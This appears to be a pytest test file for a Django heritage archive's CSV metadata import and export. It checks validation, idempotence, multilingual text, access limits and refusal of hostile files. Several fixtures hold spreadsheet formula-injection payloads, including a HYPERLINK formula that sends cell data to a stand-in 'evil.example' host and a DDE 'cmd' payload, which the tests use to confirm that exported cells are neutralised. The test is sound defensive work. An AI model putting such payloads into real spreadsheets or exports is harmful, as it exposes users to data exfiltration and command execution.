"""CSV metadata import and export: round trip, idempotence, line-numbered errors, hostile input, access."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client

from archive.access import curated_collections, visible_to
from archive.curation.csv_io import export_csv, import_csv, neutralize, unneutralize
from archive.models import Collection, HeritageObject, ObjectVersion
from preservation.models import PreservationEvent
from tests.factories import make_object, preserve_file
from tests.preservation import imagegen


def curated_export(user) -> str:
    return export_csv(visible_to(user).filter(collection__in=curated_collections(user)))


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def to_csv(header: list[str], rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def counts() -> tuple[int, int, int]:
    return HeritageObject.objects.count(), PreservationEvent.objects.count(), ObjectVersion.objects.count()


@pytest.fixture
def packaged(personas, tmp_path):
    """A described object with a processed file, so it already has OCFL version 1 on the stores."""
    obj = make_object(
        personas.collection,
        "Stele of the scribes",
        culture="Assyrian",
        place_name="Nimrud",
        latitude=36.0981,
        longitude=43.3292,
        sensitive_location=True,
        threat_type="conflict",
        threat_level=3,
        year_start=-883,
        year_end=-859,
        keywords=["stele", "cuneiform"],
        labels=["tk-attribution", "bc-provenance"],
        rights_statement="http://rightsstatements.org/vocab/NoC-OKLR/1.0/",
        source_reference="NIM-001",
        provenance='Excavated 1850; "Layard" collection,\nthen the museum.',
    )
    obj.texts.create(language="ar", title="مسلة الكتبة", description="نقش مسماري")
    preserve_file(obj, imagegen.make_jpeg(tmp_path / "face.jpg", size=(64, 48)), tmp_path)
    assert obj.versions.count() == 1
    return obj


HEADER = [
    "identifier",
    "reference",
    "collection",
    "title:en",
    "description:en",
    "year_start",
    "year_end",
    "access_level",
]


def test_importing_an_export_changes_nothing_and_an_edit_makes_one_event_and_version(
    personas, packaged, django_capture_on_commit_callbacks
):
    make_object(personas.collection, "Loom", published=False, year_start=1900)
    exported = curated_export(personas.curator)
    before = counts()
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        report = import_csv(exported.encode("utf-8"), user=personas.curator)
    assert report.ok, report.errors
    assert (report.rows, report.unchanged, report.created, report.updated) == (2, 2, 0, 0)
    assert counts() == before and callbacks == []  # no event, no version, nothing enqueued
    assert curated_export(personas.curator) == exported

    rows = parse(exported)
    stele = next(row for row in rows if row["identifier"] == packaged.identifier)
    stele["culture"] = "Neo-Assyrian"
    stele["title:fr"] = "Stèle des scribes"
    edited = io.StringIO(newline="")
    writer = csv.DictWriter(edited, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    with django_capture_on_commit_callbacks(execute=True):
        report = import_csv(edited.getvalue().encode("utf-8"), user=personas.curator)
    assert report.ok and (report.updated, report.unchanged) == (1, 1)
    packaged.refresh_from_db()
    assert packaged.culture == "Neo-Assyrian" and packaged.text("fr").title == "Stèle des scribes"
    modified = PreservationEvent.objects.filter(object=packaged, event_type="metadata modification")
    assert modified.count() == 2  # ours, and the packaging's note on the new version
    assert any("culture, title:fr" in event.detail for event in modified)
    assert packaged.versions.count() == 2  # record_changed packaged the new record as v2
    assert packaged.keywords == ["stele", "cuneiform"] and packaged.labels == ["tk-attribution", "bc-provenance"]


def test_the_same_csv_twice_changes_nothing_and_references_make_new_rows_idempotent(personas):
    data = to_csv(
        HEADER + ["keywords", "labels"],
        [
            ["", "REF-1", "riverside-photos", "Drum", "A frame drum", "1900", "1950", "", "skin; wood", ""],
            ["", "REF-2", "riverside-photos", "Mask", "", "", "", "restricted", "", "tk-secret-sacred"],
        ],
    )
    first = import_csv(data, user=personas.curator)
    assert first.ok and first.created == 2
    drum = HeritageObject.objects.get(source_reference="REF-1")
    assert drum.keywords == ["skin", "wood"] and drum.access_level == "public" and drum.status == "draft"
    assert HeritageObject.objects.get(source_reference="REF-2").labels == ["tk-secret-sacred"]
    before = counts()
    second = import_csv(data, user=personas.curator)
    assert second.ok and (second.created, second.updated, second.unchanged) == (0, 0, 2)
    assert counts() == before
    # A changed row with the same reference (still no identifier) updates that object.
    changed = data.replace(b"A frame drum", b"A goat skin frame drum")
    third = import_csv(changed, user=personas.curator)
    assert (third.created, third.updated, third.unchanged) == (0, 1, 1)
    drum.refresh_from_db()
    assert drum.description == "A goat skin frame drum" and HeritageObject.objects.count() == 2


def test_bad_rows_are_reported_with_spreadsheet_line_numbers_and_good_rows_kept(personas):
    data = to_csv(
        HEADER,
        [
            ["", "G-1", "riverside-photos", "Basket", "Woven\nover two\nsummers", "1800", "1820", "public"],  # line 2
            ["", "G-2", "riverside-photos", "Bowl", "", "-300", "-100", "community"],  # line 3
            ["", "B-1", "riverside-photos", "Bad years", "", "500", "100", "public"],  # line 4
            ["", "G-3", "riverside-photos", "Spoon", "", "", "", ""],  # line 5
            ["", "B-2", "riverside-photos", "Bad access", "", "", "", "secret"],  # line 6
        ],
    )
    report = import_csv(data, user=personas.curator)
    assert (report.created, report.failed, report.rows) == (3, 2, 5)
    assert [(e.line, e.column) for e in report.errors] == [(4, "year_end"), (6, "access_level")]
    assert "end year must not be before" in report.errors[0].message
    assert "secret" in report.errors[1].message and "restricted" in report.errors[1].message
    assert sorted(HeritageObject.objects.values_list("source_reference", flat=True)) == ["G-1", "G-2", "G-3"]
    assert HeritageObject.objects.get(source_reference="G-1").description == "Woven\nover two\nsummers"
    # The same validation as the edit form: both coordinates or neither, known labels, dates, a title.
    more = to_csv(
        ["identifier", "reference", "collection", "title:en", "description:en", "latitude", "labels", "embargo_until"],
        [
            ["", "X-1", "riverside-photos", "Half a place", "", "36.2", "", ""],
            ["", "X-2", "riverside-photos", "", "No title", "", "tk-nonsense", "1/2/2030"],
            ["", "X-3", "riverside-photos", "Too far north", "", "95", "", ""],
        ],
    )
    report = import_csv(more, user=personas.curator)
    assert report.created == 0
    assert {(e.line, e.column) for e in report.errors} == {
        (2, "longitude"),
        (3, "title:en"),
        (3, "labels"),
        (3, "embargo_until"),
        (4, "latitude"),
        (4, "longitude"),
    }


def test_multilingual_titles_including_arabic_round_trip(personas):
    data = to_csv(
        ["reference", "collection", "title:ar", "description:ar", "title:fr", "description:fr", "original_language"],
        [["AR-1", "riverside-photos", "إبريق نحاسي", "من حلب، القرن الثامن عشر", "Aiguière en cuivre", "", "ar"]],
    )
    assert import_csv(b"\xef\xbb\xbf" + data, user=personas.curator).created == 1  # a BOM is welcome
    obj = HeritageObject.objects.get(source_reference="AR-1")
    assert obj.texts.get(is_original=True).language == "ar"
    assert obj.text("ar").title == "إبريق نحاسي" and obj.text("ar").direction == "rtl"
    exported = curated_export(personas.curator)
    assert exported.startswith("\ufeff")
    header = next(csv.reader(io.StringIO(exported.removeprefix("\ufeff"))))
    assert header[:7] == [
        "identifier",
        "reference",
        "collection",
        "title:ar",
        "description:ar",
        "title:fr",
        "description:fr",
    ]
    row = parse(exported)[0]
    assert row["title:ar"] == "إبريق نحاسي" and row["original_language"] == "ar" and row["status"] == "draft"
    report = import_csv(exported.encode("utf-8"), user=personas.curator)
    assert report.ok and report.unchanged == 1
    # Empty title and description in present columns remove that language; the original stays.
    row["title:fr"] = ""
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    assert import_csv(buffer.getvalue().encode("utf-8"), user=personas.curator).updated == 1
    assert sorted(obj.texts.values_list("language", flat=True)) == ["ar"]


def test_formulas_are_neutralised_on_export_and_numbers_stay_numbers(personas):
    obj = make_object(
        personas.collection,
        "@SUM(A1:A9)",
        culture='=HYPERLINK("http://evil.example/?"&A1,"click")',
        place_name="+33 1 23",
        provenance="-2+3",
        period_label="'=quoted on purpose",
        year_start=-883,
        year_end=-859,
        latitude=-33.5,
        longitude=-70.25,
    )
    row = parse(curated_export(personas.curator))[0]
    assert row["culture"].startswith("'=HYPERLINK")
    assert row["title:en"] == "'@SUM(A1:A9)" and row["place_name"] == "'+33 1 23" and row["provenance"] == "'-2+3"
    assert row["period_label"] == "''=quoted on purpose"
    assert (row["year_start"], row["year_end"], row["latitude"], row["longitude"]) == (
        "-883",
        "-859",
        "-33.5",
        "-70.25",
    )
    report = import_csv(curated_export(personas.curator).encode("utf-8"), user=personas.curator)
    assert report.ok and report.unchanged == 1  # the prefix comes off again on import
    obj.refresh_from_db()
    assert obj.culture.startswith("=HYPERLINK") and obj.period_label == "'=quoted on purpose"
    for text in ["", "plain", "-883", "+1.5e3", "=1+1", "'=x", "''@y", "'hello", "\t=cmd", "-", "@"]:
        assert unneutralize(neutralize(text)) == text
        assert neutralize(text)[:1] not in ("=", "+", "@", "\t") or text[:1] == "+"
    assert neutralize("-883") == "-883" and neutralize("-88 3") == "'-88 3"


def test_hostile_files_are_refused_clearly(personas, settings):
    settings.ARCHIVE_CSV_MAX_BYTES = 200
    big = import_csv(b"identifier,culture\n" + b"ABCDEFGHJK,x\n" * 30, user=personas.curator)
    assert big.refused and "larger than" in big.errors[0].message
    settings.ARCHIVE_CSV_MAX_BYTES = 20 * 1024 * 1024
    many = import_csv(b"culture\n" + b"x\n" * 50_001, user=personas.curator)
    assert many.refused and "50,000" in many.errors[0].message and not HeritageObject.objects.exists()
    latin = "reference,collection,title:fr\nE-1,riverside-photos,Été\n".encode("latin-1")
    bad = import_csv(latin, user=personas.curator)
    assert bad.refused and bad.errors[0].line == 2 and "UTF-8" in bad.errors[0].message
    unknown = import_csv(b"identifier,cultrue,title:en,description:en,title:xx-!!\n,,,,\n", user=personas.curator)
    assert unknown.refused and {(e.line, e.column) for e in unknown.errors} == {(1, "cultrue"), (1, "title:xx-!!")}
    unpaired = import_csv(b"reference,title:en\nR,x\n", user=personas.curator)
    assert unpaired.refused and unpaired.errors[0] == (1, "description:en", unpaired.errors[0].message)
    semicolons = import_csv(
        b"reference;collection;title:en;description:en\nR;riverside-photos;x;\n", user=personas.curator
    )
    assert semicolons.refused and "semicolons" in semicolons.errors[0].message
    assert not HeritageObject.objects.exists()
    nul = to_csv(
        HEADER,
        [
            ["", "N-1", "riverside-photos", "Bad\x00title", "", "", "", ""],
            ["", "N-2", "riverside-photos", "Ok", "", "", "", ""],
        ],
    )
    report = import_csv(nul, user=personas.curator)
    assert (report.created, report.failed) == (1, 1) and report.errors[0][:2] == (2, "title:en")


def test_a_check_only_run_writes_nothing(personas):
    data = to_csv(HEADER, [["", "D-1", "riverside-photos", "Drum", "", "", "", ""]])
    before = counts()
    report = import_csv(data, user=personas.curator, dry_run=True)
    assert report.ok and report.created == 1 and counts() == before


def test_a_csv_cannot_reach_another_communitys_collection_or_objects(personas):
    foreign = Collection.objects.create(community=personas.other_community, slug="hilltop-photos", title="Hilltop")
    theirs = make_object(foreign, "Their jar", culture="Hilltop")
    ours = make_object(personas.collection, "Our jar")
    data = to_csv(
        ["identifier", "reference", "collection", "title:en", "description:en", "culture"],
        [
            ["", "SNEAK-1", "hilltop-photos", "Planted", "", ""],
            [theirs.identifier, "", "", "Their jar", "", "Taken over"],
            [ours.identifier, "", "hilltop-photos", "Our jar", "", ""],  # moving ours into theirs
        ],
    )
    before = counts()
    report = import_csv(data, user=personas.curator)
    assert report.failed == 3 and counts() == before
    assert [(e.line, e.column) for e in report.errors] == [(2, "collection"), (3, "identifier"), (4, "collection")]
    theirs.refresh_from_db()
    assert theirs.culture == "Hilltop" and not foreign.heritage_objects.filter(source_reference="SNEAK-1").exists()
    # A member curates nothing: every row is refused, even for their own community's objects.
    member = import_csv(data.replace(b"hilltop-photos", b"riverside-photos"), user=personas.member)
    assert member.failed == 3 and counts() == before
    assert "hilltop" not in curated_export(personas.curator)


def test_only_curators_and_staff_reach_the_pages(personas):
    make_object(personas.collection, "Drum")
    assert Client().get("/curate/csv/export/").status_code == 302
    assert Client().post("/curate/csv/import/").status_code == 302
    for user in (personas.member, personas.outsider):
        client = Client()
        client.force_login(user)
        assert client.get("/curate/csv/export/").status_code == 403
        assert client.get("/curate/csv/import/").status_code == 403
        upload = SimpleUploadedFile("x.csv", to_csv(HEADER, [["", "M-1", "riverside-photos", "M", "", "", "", ""]]))
        assert client.post("/curate/csv/import/", {"file": upload}).status_code == 403
    assert not HeritageObject.objects.filter(source_reference="M-1").exists()
    curator = Client()
    curator.force_login(personas.curator)
    Collection.objects.create(community=personas.other_community, slug="hilltop-photos", title="Hilltop")
    assert curator.get("/curate/csv/export/?collection=hilltop-photos").status_code == 404
    staff = Client()
    staff.force_login(personas.staff)
    assert staff.get("/curate/csv/export/?collection=hilltop-photos").status_code == 200


def test_the_pages_export_and_import_with_a_check_only_mode(personas):
    make_object(personas.collection, "Drum")
    client = Client()
    client.force_login(personas.curator)
    dashboard = client.get("/curate/").content.decode()
    assert "/curate/csv/export/" in dashboard and "/curate/csv/import/" in dashboard
    response = client.get("/curate/csv/export/?collection=riverside-photos")
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    exported = b"".join(response.streaming_content).decode("utf-8")
    assert parse(exported)[0]["title:en"] == "Drum"
    assert client.get("/curate/csv/import/").status_code == 200

    data = to_csv(
        HEADER,
        [["", "P-1", "", "Rattle", "", "", "", ""], ["", "P-2", "riverside-photos", "Bad", "", "x", "", ""]],
    )
    check = client.post(
        "/curate/csv/import/",
        {"file": SimpleUploadedFile("r.csv", data), "dry_run": "on", "collection": personas.collection.pk},
    )
    page = check.content.decode()
    assert check.status_code == 200 and "year_start" in page and "<td>3</td>" in page
    assert not HeritageObject.objects.filter(source_reference="P-1").exists()
    done = client.post(
        "/curate/csv/import/", {"file": SimpleUploadedFile("r.csv", data), "collection": personas.collection.pk}
    )
    assert done.status_code == 200
    created = HeritageObject.objects.get(source_reference="P-1")
    assert created.identifier in done.content.decode() and created.created_by == personas.curator


def test_the_commands_export_and_import(personas, tmp_path, capsys):
    make_object(personas.collection, "Drum", culture="=cmd|' /C calc'!A0")
    path = tmp_path / "records.csv"
    call_command("export_csv", "--collection", "riverside-photos", "-o", str(path), verbosity=0)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf") and b"'=cmd" in path.read_bytes()
    out = io.StringIO()
    call_command("import_csv", str(path), "--user", "curator", stdout=out, verbosity=0)
    assert "unchanged: 1" in out.getvalue()
    stdout = io.StringIO()
    call_command("export_csv", stdout=stdout, stderr=io.StringIO(), verbosity=0)
    assert parse(stdout.getvalue())[0]["title:en"] == "Drum"

    bad = tmp_path / "bad.csv"
    bad.write_bytes(
        to_csv(HEADER, [["", "C-1", "riverside-photos", "Ok", "", "", "", ""], ["", "C-2", "", "No", "", "", "", ""]])
    )
    out = io.StringIO()
    with pytest.raises(SystemExit) as exit_info:
        call_command("import_csv", str(bad), "--user", "curator", "--dry-run", stdout=out, verbosity=0)
    assert exit_info.value.code == 1 and "line 3, collection" in out.getvalue()
    assert not HeritageObject.objects.filter(source_reference="C-1").exists()
    with pytest.raises(SystemExit):
        call_command("import_csv", str(bad), "--user", "curator", stdout=io.StringIO(), verbosity=0)
    assert HeritageObject.objects.filter(source_reference="C-1").exists()

    for name in ("import_csv", "export_csv"):
        with pytest.raises(SystemExit) as exit_info:
            call_command(name, "--help")
        assert exit_info.value.code == 0
    help_text = capsys.readouterr().out
    assert "--dry-run" in help_text and "--collection" in help_text and "--output" in help_text


def test_csv_files_are_read_as_uploads_too(personas, tmp_path):
    path = Path(tmp_path / "upload.csv")
    path.write_bytes(to_csv(HEADER, [["", "U-1", "riverside-photos", "Flute", "", "", "", ""]]))
    with open(path, "rb") as handle:
        assert import_csv(handle, user=personas.curator).created == 1
